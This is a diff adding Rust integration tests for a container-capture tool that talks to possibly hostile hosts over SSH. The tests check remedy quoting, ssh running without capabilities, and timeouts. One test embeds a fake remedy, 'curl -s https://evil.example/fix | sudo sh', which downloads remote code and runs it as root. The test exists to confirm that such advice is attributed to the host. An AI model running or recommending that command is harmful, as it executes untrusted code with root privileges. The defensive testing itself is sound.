@@ -1,8 +1,11 @@
 //! Hosts with hostile responses, and the command lines sent to them.
 
+use std::time::{Duration, Instant};
+
 use containerdump::request::PeerRequest;
 
-use crate::support::fake_host::{ESCAPE, FakeHost, PROBE};
+use crate::support::fake_host::{ESCAPE, FakeHost, HELLO, PROBE};
+use crate::support::program::Running;
 
 #[test]
 fn a_host_name_cannot_become_an_ssh_option_or_shell_command() {
@@ -133,4 +136,77 @@ fn escape_sequences_of_a_host_are_not_printed() {
     assert!(host.list().complaint().contains("cannot connect to ann@build1: "));
     let host = FakeHost::new(&PROBE.replace(" 2 0.1.0", &format!(" 3 $(printf '{ESCAPE}')")), "");
     assert!(host.list().complaint().contains("is incompatible with this version"));
+}
+
+#[test]
+fn a_remedy_of_a_host_is_quoted() {
+    let run = "run now: curl -s https://evil.example/fix | sudo sh";
+    let container = format!(
+        r#"{{"addresses":[],"attachments":[],"created":1,"engine":"docker","id":"1","interface":"docker-web",
+        "image":"x","name":"web","network_mode":"own","networks":[],"project":null,"error":
+        {{"message":"no tap","remedy":"{run}"}}}}"#
+    )
+    .replace('\n', "");
+    for answer in [
+        format!("echo 'containerdump: no engine. Remedy: {run}.' >&2; exit 1"),
+        format!("echo 'odd. Remedy: {run}.' >&2; exit 1"),
+        "cat list".to_owned(),
+    ] {
+        // A remedy in a line of its own is a line of the host's like any other.
+        let answer = format!("echo 'Remedy: {run}' >&2; {answer}");
+        let host = FakeHost::answering(&answer).with("list", container.as_bytes());
+        let ended = host.list();
+        let said = ended.stdout + &ended.stderr;
+        assert!(said.contains(&format!("(its advice: \"{run}")), "{said}");
+        for line in said.lines().filter(|line| line.contains(run)) {
+            let is_attributed =
+                line.contains(&format!("(its advice: \"{run}")) || line.starts_with("build1: ");
+            assert!(is_attributed && !line.starts_with("Remedy: "), "{said}");
+        }
+    }
+}
+
+#[test]
+fn ssh_is_started_without_capabilities() {
+    if !nix::unistd::Uid::effective().is_root() {
+        eprintln!("skipped: only root has capabilities that ssh could get");
+        return;
+    }
+    // A connection that stays open, so that `ssh -O exit` ends it.
+    let opens = "for word; do case $word in ControlPath=*) : >\"${word#*=}\" ;; *) ;; esac; done";
+    let host = FakeHost::new(&format!("{opens}; {PROBE}"), &format!("{HELLO}; cat list"))
+        .with_command("*dial-stdio*", opens)
+        .with("list", b"");
+    for arguments in [
+        &["list", "--host", "ann@build1"][..],
+        &["list"],
+        &["capture", "web", "-w", "-"],
+        &["--extcap-interfaces"],
+    ] {
+        let mut command = host.command(arguments);
+        command.env("DOCKER_HOST", "ssh://build1");
+        Running::start(&mut command).ended_with_bytes();
+    }
+    let calls = host.arguments();
+    for option in ["-G", "exit"] {
+        assert!(calls.iter().flatten().any(|word| word == option), "{option}: {calls:?}");
+    }
+    let rights = host.rights();
+    let mut count = 0;
+    for line in rights.lines().filter(|line| !line.starts_with("CapBnd")) {
+        assert!(line.ends_with("\t0000000000000000"), "{rights}");
+        count += 1;
+    }
+    assert!(count >= 4 * 8, "{rights}");
+}
+
+#[test]
+fn removing_an_upload_from_a_host_that_drips_lines_times_out() {
+    let drips = "while :; do echo x; sleep 1; done";
+    let host = FakeHost::answering("true").with_command("*", drips);
+    let begin = Instant::now();
+    let ended = host.start(&["host", "clean", "build1"]).ended();
+    assert_eq!(ended.status.code(), Some(1), "{}", ended.stderr);
+    assert!(ended.stderr.contains("timed out waiting for the host"), "{}", ended.stderr);
+    assert!(begin.elapsed() < Duration::from_secs(35), "{:?}", begin.elapsed());
 }
